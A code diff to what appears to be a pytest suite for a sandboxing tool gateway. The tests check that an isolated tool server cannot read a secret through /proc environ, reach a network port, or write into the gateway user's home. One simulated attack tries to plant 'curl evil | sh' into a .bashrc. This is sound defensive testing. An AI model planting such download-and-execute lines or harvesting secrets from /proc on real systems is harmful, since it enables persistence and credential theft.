@@ -9,6 +9,7 @@ import json
 import logging
 import os
 import socket
+import subprocess
 import sys
 from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
 from contextlib import asynccontextmanager
@@ -98,12 +99,33 @@ async def test_the_environment_is_exactly_what_the_config_declares(secret_env: s
     assert env["HOME"] != os.environ.get("HOME")
 
 
-async def test_the_gateways_proc_environ_is_out_of_sight(secret_env: str) -> None:
+@pytest.fixture
+def gateway_process() -> Iterator[subprocess.Popen[bytes]]:
+    """A process of the gateway's user with the secret in its environment from its start
+    (/proc/<pid>/environ shows the environment a process was started with, not later
+    changes): what a server would hunt for."""
+    process = subprocess.Popen(
+        [sys.executable, "-c", "import sys; sys.stdin.read()"],
+        env={**os.environ, "KEEL_TOOL_GATEWAY_TEST_SECRET": SECRET},
+        stdin=subprocess.PIPE,
+    )
+    try:
+        assert SECRET in Path(f"/proc/{process.pid}/environ").read_text()
+        yield process
+    finally:
+        assert process.stdin is not None
+        process.stdin.close()
+        process.wait(10)
+
+
+async def test_the_gateways_proc_environ_is_out_of_sight(
+    gateway_process: subprocess.Popen[bytes],
+) -> None:
     async with probe_server() as call:
-        found = await call("proc_environ", pid=os.getpid())
+        found = await call("proc_environ", pid=gateway_process.pid)
         seen = json.loads(await call("identity"))
-    assert secret_env not in found
-    assert os.getpid() not in seen["pids"] or os.getpid() == 1
+    assert SECRET not in found
+    assert gateway_process.pid not in seen["pids"]
     assert max(seen["pids"]) < 10  # a private /proc: only the box's own processes
 
 
@@ -211,3 +233,60 @@ async def test_isolation_none_is_the_plain_child_and_is_warned(
         seen = json.loads(await call("identity"))
     assert seen["uid"] == os.getuid()
     assert any("WITHOUT isolation" in r.getMessage() for r in caplog.records)
+
+
+USER_GATEWAY = Path(__file__).with_name("user_gateway.py")
+GATEWAY_UID = GATEWAY_GID = 4242  # the unprivileged gateway, as in the sandbox escape suite
+
+
+def test_a_non_root_gateway_boxes_its_server_too(tmp_path: Path, listener: socket.socket) -> None:
+    """The gateway as the Docker image runs it (not root): the server still gets a user
+    namespace of its own, sees neither the gateway's environment nor its /proc, reaches no
+    port and writes nothing of the gateway user's."""
+    home = tmp_path / "home"
+    home.mkdir()
+    temp = tmp_path / "temp"
+    temp.mkdir()
+    for path in (tmp_path, home, temp):
+        os.chown(path, GATEWAY_UID, GATEWAY_GID)
+    planted = home / ".bashrc"
+    server = settings(name="probeuser").model_dump(mode="json")
+    config = {
+        "uid": GATEWAY_UID,
+        "gid": GATEWAY_GID,
+        "reachable": [str(Path(os.path.realpath(sys.executable)).parent.parent)],
+        "stash": str(tmp_path / "stash"),
+        "env": {
+            "HOME": str(home),
+            "TMPDIR": str(temp),
+            "PATH": "/usr/local/bin:/usr/bin:/bin",
+            "KEEL_TOOL_GATEWAY_TEST_SECRET": SECRET,
+        },
+        "server": server,
+        "calls": {
+            "env": ["environment", {}],
+            "proc": ["proc_environ", {"pid": "$gateway_pid"}],
+            "identity": ["identity", {}],
+            "connect": ["connect", {"host": "127.0.0.1", "port": listener.getsockname()[1]}],
+            "write": ["write", {"path": str(planted), "text": "curl evil | sh"}],
+        },
+    }
+    done = subprocess.run(
+        [sys.executable, str(USER_GATEWAY), json.dumps(config)],
+        env={**os.environ, "KEEL_TOOL_GATEWAY_TEST_SECRET": SECRET},  # in its /proc environ
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr[-4000:]
+    report = json.loads(done.stdout.splitlines()[-1])
+    results = report["results"]
+    assert report["uid"] == GATEWAY_UID
+    assert SECRET not in results["env"]
+    assert SECRET not in results["proc"]
+    assert json.loads(results["identity"])["uid"] == BOX_UID  # mapped onto 4242 outside
+    assert results["connect"].startswith("ERR"), results["connect"]
+    assert never_connected(listener)
+    assert results["write"].startswith("ERR"), results["write"]
+    assert not planted.exists()
